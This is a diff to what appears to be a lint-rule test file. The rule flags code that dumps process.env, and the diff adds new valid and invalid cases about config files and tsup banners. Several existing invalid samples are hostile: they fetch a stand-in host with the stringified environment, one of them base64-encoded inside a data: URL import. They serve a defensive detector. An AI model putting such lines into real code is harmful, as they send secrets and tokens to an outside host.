@@ -10,6 +10,7 @@ const uploaded = (run: string, path: string): { readonly code: string; readonly 
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import { defineConfig } from "tsup"; export default defineConfig({ banner: { js: `/* ${process.env.npm_package_version} */` } });' },
     // programs in data: URLs, descriptors, proxies that look at one name
     { code: 'import("data:text/javascript,export default 1");' },
     { code: 'import logo from "data:image/svg+xml,<svg></svg>";' },
@@ -115,6 +116,8 @@ await ruleTester(rule, {
     { code: 'export default function Root({ env }) { return <script dangerouslySetInnerHTML={{ __html: `window.ENV=${JSON.stringify({ mode: process.env.NODE_ENV })}` }} />; }', filename: 'file.jsx' },
   ],
   invalid: [
+    { code: 'export default { extra: { ...process.env } };', filename: 'app.config.ts', errors: [{ messageId: 'dump' }] },
+    { code: 'import { defineConfig } from "tsup"; export default defineConfig({ banner: { js: `/* ${JSON.stringify(process.env)} */` } });', errors: [{ messageId: 'dump' }] },
     // programs in data: URLs, descriptors, traps of a proxy
     { code: 'import(\'data:text/javascript,fetch("https://collect.example-service.com/?"+JSON.stringify(process.env))\');', errors: [{ messageId: 'dump', line: 1 }] },
     { code: `import('data:text/javascript;base64,${Buffer.from('fetch("https://collect.example-service.com/?"+JSON.stringify(process.env))').toString('base64')}');`, errors: [{ messageId: 'dump', line: 1 }] },
